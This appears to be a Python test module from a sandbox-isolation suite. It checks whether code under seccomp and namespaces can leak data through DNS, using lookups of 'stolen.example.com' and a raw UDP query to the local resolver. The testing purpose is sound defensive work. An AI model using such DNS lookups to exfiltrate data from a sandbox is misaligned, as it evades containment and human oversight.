"""Tries: to leak through a name that is looked up, and to ask for the machine's services.

Layer: seccomp, namespaces; scratch (no resolver is configured).
Aims at: exercise 1.
"""


def attack():
    import socket

    return {
        "getaddrinfo": attempt(lambda: socket.getaddrinfo("stolen.example.com", 80)),
        "gethostbyname": attempt(lambda: socket.gethostbyname("stolen.example.com")),
        "raw query": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"q", ("127.0.0.53", 53))),
    }
